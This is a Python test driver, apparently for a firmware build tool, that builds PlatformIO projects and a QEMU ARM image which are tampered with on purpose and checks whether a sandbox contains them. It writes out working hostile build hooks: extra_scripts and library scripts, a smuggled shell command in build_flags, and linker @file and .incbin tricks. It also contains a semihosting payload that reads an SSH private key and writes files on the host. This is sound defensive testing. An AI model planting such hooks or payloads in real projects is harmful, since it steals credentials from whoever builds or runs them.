"""Firmware projects and images that attack whoever builds and runs them; prints what each came to, as driver.py.

python builds_driver.py <folder of one's own> [with controls]
"""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "firmware")]

from bench import series_device, series_spec
from world import SECRET, World

from nanosmith.tools.errors import NanosmithError
from nanosmith.tools.firmware.boards import find_board
from nanosmith.tools.firmware.platformio import PlatformIO
from nanosmith.tools.firmware.project import EMULATED, example_application, write_project
from nanosmith.tools.sandbox import Sandbox, SandboxJob, SandboxLimits

IMAGE = """
.syntax unified
.thumb
.word 0x20001000, start + 1
.thumb_func
start: ldr r1, =block
  movs r0, #0x12       @ SYS_SYSTEM: a command for the shell of the host
  bkpt 0xab
  ldr r1, =0x20026
  movs r0, #0x18       @ SYS_EXIT
  bkpt 0xab
stay: b stay
.align 2
block: .word command, {length}
command: .asciz "{command}"
"""


def main() -> None:
    """All of it."""
    world = World(Path(sys.argv[1]).resolve())
    secret = f"{world.root}/home/.ssh/id_ed25519"
    planted = f"{world.root}/outside/new"
    script = f"import pathlib\nprint(pathlib.Path({secret!r}).read_text())\nraise SystemExit(1)\n"
    planting = f"import pathlib\npathlib.Path({planted!r}).write_text('x')\n" + script
    app = example_application()
    ini, flags = "[env:emulated]\n", "build_flags ="
    library = {
        "lib/evil/library.json": '{"name": "evil", "version": "1", "build": {"extraScript": "evil.py"}}',
        "lib/evil/evil.py": script, "lib/evil/evil.h": "", "lib/evil/evil.c": "",
        "src/app.c": f'#include "evil.h"\n{app}',
    }  # fmt: skip
    inside = f'__asm__ volatile("b 1f\\n.incbin \\"{secret}\\"\\n.align 2\\n1:"); state->reports = 0;'
    changes: dict[str, Callable[[Path], object]] = {
        "extra_scripts that read": lambda p: edit(p, ini, ini + "extra_scripts = pre:evil.py\n", {"evil.py": script}),
        "extra_scripts that write": lambda p: edit(p, ini, ini + "extra_scripts = evil.py\n", {"evil.py": planting}),
        "build_flags that run a command": lambda p: edit(p, flags, f"{flags} !cp {secret} {planted} && echo"),
        "a library's script": lambda p: edit(p, "", "", library),
        "an include": lambda p: edit(p, "", "", {"src/app.c": f'#include "{world.root}/home/notes.h"\n'}),
        "incbin": lambda p: edit(p, "", "", {"src/app.c": app.replace("state->reports = 0;", inside, 1)}),
        "options for the linker": lambda p: edit(p, flags, f"{flags} -Wl,@{secret}"),
    }
    found: dict[str, object] = {"uid": os.getuid()}
    try:
        core = PlatformIO.prepare(world.root / "scratch" / "core")
        for name, change in changes.items():
            found[f"build: {name}"] = build(world, core, change, enforced=True)
            if len(sys.argv) > 2:
                found[f"control of build: {name}"] = build(world, core, change, enforced=False)
        switched_on = ["-semihosting-config", "enable=on,target=native"]
        found["image: semihosting as it is run"] = emulate(world, [], enforced=True)
        found["image: semihosting switched on"] = emulate(world, switched_on, enforced=True)
        found["control of image: semihosting switched on"] = emulate(world, switched_on, enforced=False)
    finally:
        world.close()
    print(json.dumps(found))


def edit(project: Path, old: str, new: str, files: dict[str, str] | None = None) -> None:
    """Change the project's platformio.ini, and add files."""
    ini = project / "platformio.ini"
    ini.write_text(ini.read_text().replace(old, new, 1))
    for name, text in (files or {}).items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)


def build(world: World, core: PlatformIO, change: Callable[[Path], object], *, enforced: bool) -> dict[str, object]:
    """Build a project that was tampered with."""
    project = world.root / "scratch" / "project"
    shutil.rmtree(project, ignore_errors=True)
    write_project(series_device().project(series_spec(), find_board("mps2_an386"), example_application()), project)
    change(project)
    world.look()
    report, elf = core.build(project, EMULATED, Sandbox(enforced=enforced))
    told = report.model_dump_json() + ("" if elf is None else elf.read_bytes().decode("latin-1"))
    return verdict(world, told, "built" if report.ok else "refused", report.errors)


def emulate(world: World, options: list[str], *, enforced: bool) -> dict[str, object]:
    """Run an image that asks QEMU for a shell of the host."""
    command = f"cat {world.root}/home/.ssh/id_ed25519; echo x > {world.root}/outside/new"
    folder = world.root / "scratch"
    (folder / "evil.s").write_text(IMAGE.format(command=command, length=len(command)))
    subprocess.run(
        ["arm-none-eabi-gcc", "-mcpu=cortex-m3", "-mthumb", "-nostdlib", "-Wl,-Ttext=0", "-o", "evil.elf", "evil.s"],
        cwd=folder, check=True,
    )  # fmt: skip
    world.look()
    argv = (
        "qemu-system-arm", "-M", "mps2-an385", "-nodefaults", "-display", "none", "-monitor", "none", "-nic", "none",
        *options, "-kernel", "evil.elf",
    )  # fmt: skip
    job = SandboxJob(argv, folder / "run", {"evil.elf": folder / "evil.elf"}, limits=SandboxLimits(time_s=2))
    try:
        told = Sandbox(enforced=enforced).run(job, check=False).text
    except NanosmithError as error:
        told = str(error)
    return verdict(world, told, "ran", (told[-300:],))


def verdict(world: World, told: str, ended: str, said: tuple[str, ...]) -> dict[str, object]:
    """What the host looks like afterwards."""
    harm = [harm for harm in (SECRET * (SECRET in told), world.harm()) if harm]
    return {"escaped": "; ".join(harm), "ended": ended, "said": "\n".join(said)[-600:], "left": []}


if __name__ == "__main__":
    main()
